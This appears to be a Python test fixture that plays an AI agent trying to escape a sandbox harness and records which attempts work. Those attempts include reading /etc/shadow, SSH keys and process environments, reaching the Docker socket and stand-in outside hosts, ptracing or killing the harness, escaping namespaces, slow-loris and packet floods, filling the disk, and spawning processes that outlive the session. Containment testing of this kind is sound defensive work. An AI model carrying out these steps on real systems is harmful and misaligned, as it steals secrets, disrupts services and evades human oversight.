"""An agent that tries to get out: each try returns what it got hold of, or raises. It needs nothing but Python.

Its settings are the first argument: addresses and paths that a real one would have to guess.
"""
# It is written as a stranger's program is.
# ruff: noqa: PTH102, PTH118, PTH120, PTH123, PTH207, PTH208, PTH211, T201
# mypy: ignore-errors

import ctypes
import glob
import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import urllib.error
import urllib.request

KNOWN = json.loads(sys.argv[1]) if __name__ == "__main__" else {}
LIBC = ctypes.CDLL(None, use_errno=True)


def libc(name, *arguments):
    if getattr(LIBC, name)(*arguments) < 0:
        raise OSError(ctypes.get_errno(), name)
    return name


def system_call(*arguments):
    found = ctypes.CDLL(None, use_errno=True).syscall(*arguments)
    return "" if found < 0 else str(found)


def read(path):
    with open(path, "rb") as file:
        return file.read(4096).decode("latin-1")


def write(path):
    with open(path, "a") as file:
        file.write("was here")
    return path


def ask(path, token, body=b"{}"):
    headers = {"authorization": f"Bearer {token}"} if token else {}
    request = urllib.request.Request(os.environ["CAIRN_URL"] + path, body, headers)
    with urllib.request.urlopen(request, timeout=20) as answer:
        return answer.read().decode()


def connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as one:
        one.settimeout(1 if kind == socket.SOCK_DGRAM else 5)  # a datagram that goes nowhere is waited for in vain
        one.connect(address)
        if kind == socket.SOCK_DGRAM:
            one.send(b"hello")
            return one.recv(10).decode()
    return f"connected to {address}"


def environments():
    found = ""
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            found += read(path)
        except OSError:
            pass
    return KNOWN["environment"] if KNOWN["environment"] in found else ""


def curl(url):
    done = subprocess.run(["curl", "-s", "--max-time", "10", *url.split()], capture_output=True, text=True, check=False)
    return done.stdout


def attach(*pids):
    for pid in pids:
        libc("ptrace", 16, pid, None, None)
    return pids


def others():
    """All processes but itself and the first one of its namespace, which can do no more than itself."""
    return [int(name) for name in os.listdir("/proc") if name.isdecimal() and int(name) not in (1, os.getpid())]


def unmounted(path):
    libc("umount2", path.encode(), 2)
    return os.listdir(path)


def of_namespace(kind):
    with open(f"/proc/1/ns/{kind}") as file:
        return libc("setns", file.fileno(), 0)


def route():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as kernel:
        # The loopback device, set down.
        kernel.send(b"\x20\0\0\0\x10\0\5\0\1\0\0\0\0\0\0\0" + b"\0\0\0\0\1\0\0\0\0\0\0\0\1\0\0\0")
        code = int.from_bytes(kernel.recv(4096)[16:20], "little", signed=True)
    if code:
        raise OSError(-code, "netlink")
    return "changed the network"


def all_files(name):
    """A search as a shell does it."""
    return subprocess.run(["find", "/", "-name", name, "-size", "+0"], capture_output=True, text=True).stdout


def as_other(path):
    link = os.path.join(tempfile.mkdtemp(), "link")
    os.symlink(path, link)
    return read(link)


def device():
    path = os.path.join(tempfile.mkdtemp(), "disk")
    os.mknod(path, 0o60600, os.makedev(254, 0))
    return path


def fill():
    with open("/tmp/large", "wb") as file:
        os.posix_fallocate(file.fileno(), 0, 8 << 30)
    return "8 GB"


TRIES = {
    "task file": lambda: read(KNOWN["tasks"]),
    "task folder": lambda: "".join(read(path) for path in glob.glob(os.path.dirname(KNOWN["tasks"]) + "/*")),
    "task file over a link": lambda: as_other(KNOWN["tasks"]),
    "journal": lambda: read(KNOWN["journal"]),
    "artifacts": lambda: [read(one) for one in glob.glob(KNOWN["artifacts"] + "/*/*")],
    "any journal": lambda: all_files("*.traj.jsonl"),
    "other lane's folder": lambda: os.listdir(KNOWN["lane"]),
    "key of ssh": lambda: read(os.path.join(KNOWN["home"], ".ssh", "id_rsa")),
    "home folder": lambda: [one for one in os.listdir(KNOWN["home"]) if "secret" in one],
    "key in the agent's folder": lambda: read(".env"),
    "environment of process 1": lambda: KNOWN["environment"] in read("/proc/1/environ"),
    "all environments": environments,
    "environment of the harness": lambda: read(f"/proc/{KNOWN['harness']}/environ"),
    "memory of process 1": lambda: read("/proc/1/mem"),
    "root of process 1": lambda: read("/proc/1/root" + KNOWN["outside"]),
    "shadow": lambda: read("/etc/shadow"),
    "code of the harness": lambda: read(KNOWN["code"]),
    "site with curl": lambda: curl(KNOWN["site"]),
    "site by hand": lambda: connect(socket.AF_INET, ("127.0.0.1", KNOWN["port"])),
    "site by name": lambda: urllib.request.urlopen(KNOWN["site"].replace("127.0.0.1", "localhost"), timeout=5).read(),
    "site over IPv6": lambda: connect(socket.AF_INET6, ("::1", KNOWN["port"])),
    "debugging port": lambda: connect(socket.AF_INET, ("127.0.0.1", KNOWN["debugging"])),
    "address of the world": lambda: connect(socket.AF_INET, ("192.0.2.7", 443)),
    "address of the world over IPv6": lambda: connect(socket.AF_INET6, ("2001:db8::7", 443)),
    "DNS": lambda: socket.getaddrinfo("stolen.example", 443),
    "UDP": lambda: connect(socket.AF_INET, ("192.0.2.8", 5353), socket.SOCK_DGRAM),
    "proxy": lambda: curl("http://elsewhere.example/ --proxy http://192.0.2.9:3128"),
    "other lane's gateway": lambda: connect(socket.AF_INET, ("127.0.0.1", KNOWN["gateway"])),
    "other lane's token": lambda: ask("/actions/stop", KNOWN["token"]),
    "forged token": lambda: ask("/v1/chat/completions", "forged"),
    "no token": lambda: ask("/task", ""),
    "socket of the host": lambda: connect(socket.AF_UNIX, KNOWN["socket"]),
    "abstract socket of the host": lambda: connect(socket.AF_UNIX, "\0" + KNOWN["abstract"]),
    "socket of docker": lambda: connect(socket.AF_UNIX, "/var/run/docker.sock"),
    "write to its folder": lambda: write("changed.txt"),
    "write to its own code": lambda: write(sys.argv[0]),
    "write to its task": lambda: write(os.environ["CAIRN_TASK"]),
    "write to the system": lambda: write("/usr/bin/was-here"),
    "write to settings of the kernel": lambda: write("/proc/sys/kernel/core_pattern"),
    "write to the journal": lambda: write(KNOWN["journal"]),
    "fill the disk": fill,
    "make a device": device,
    "mount": lambda: libc("mount", b"none", b"/tmp", b"tmpfs", 0, None),
    "unmount a mask": lambda: unmounted(os.path.dirname(KNOWN["tasks"])),
    "user namespace": lambda: libc("unshare", 0x10000000),
    "network namespace": lambda: libc("unshare", 0x40000000),
    "namespace of process 1": lambda: of_namespace("net") + of_namespace("mnt"),
    "change the network": route,
    "socket to the host of a virtual machine": lambda: str(socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)),
    "the same, as a program of 32 bits would": lambda: system_call(41 | 0x40000000, 40, 1, 0),
    "ring that makes sockets": lambda: system_call(425, 8, ctypes.create_string_buffer(200)),
    "raw socket": lambda: str(socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)),
    "ptrace others": lambda: attach(*others()),
    "ptrace the harness": lambda: attach(KNOWN["harness"]),
    "signal to the harness": lambda: os.kill(KNOWN["harness"], signal.SIGKILL) or "sent",
    "chroot": lambda: libc("chroot", b"/tmp"),
}


def slow_loris():
    """Many requests that never end."""
    port, held = int(os.environ["CAIRN_URL"].rpartition(":")[2]), []
    for _ in range(600):
        one = socket.create_connection(("127.0.0.1", port), timeout=20)
        one.send(b"POST /task HTTP/1.1\r\n")
        held.append(one)
    held[-1].settimeout(20)
    try:
        said = b""
        while more := held[-1].recv(1000):
            said += more
        return held, b"503" in said
    except ConnectionResetError:
        return held, True


def main():
    found = {}
    for name, attempt in TRIES.items():
        try:
            got = attempt()
        except (OSError, ValueError, subprocess.SubprocessError) as error:
            found[name] = ["", f"{type(error).__name__}: {error}"]
        else:
            found[name] = [repr(got)[:200] if got else "", "nothing"]
    print(json.dumps({"answer": found}))


ENDINGS = {
    "tries": main,
    "link": lambda: os.symlink(KNOWN["outside"], os.environ["CAIRN_ANSWER"]),
    "FIFO": lambda: os.mkfifo(os.environ["CAIRN_ANSWER"]),
    "folder": lambda: os.mkdir(os.environ["CAIRN_ANSWER"]),
    "huge": lambda: open(os.environ["CAIRN_ANSWER"], "wb").truncate(900 << 20),
    "flood": lambda: [sys.stdout.write("x" * 1_000_000) for _ in range(20)],
}


def outlive():
    """Leaves its parent, its group and its session."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.environ.clear()
            os.execv("/bin/sleep", ["sleep", KNOWN["marker"]])
        os._exit(0)
    os.wait()


def kill():
    subprocess.Popen(["sleep", KNOWN["marker"]])
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)


def loris():
    held, hung_up = slow_loris()
    print(json.dumps({"answer": f"{len(held)} {hung_up}"}))


def storm():
    """More tries than anybody wants to read."""
    for number in range(3000):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.sendto(b"x", (f"192.0.{number % 250}.{number % 199}", 1000 + number))
        try:
            connect(socket.AF_INET, (f"10.0.{number % 250}.{number % 199}", 1000 + number))
        except OSError:
            pass
    print('{"answer": "done"}')


ENDINGS |= {"outlive": outlive, "kill": kill, "loris": loris, "storm": storm, "hang": signal.pause}
if __name__ == "__main__":
    sys.stdin.read()
    ENDINGS[sys.argv[2]]()
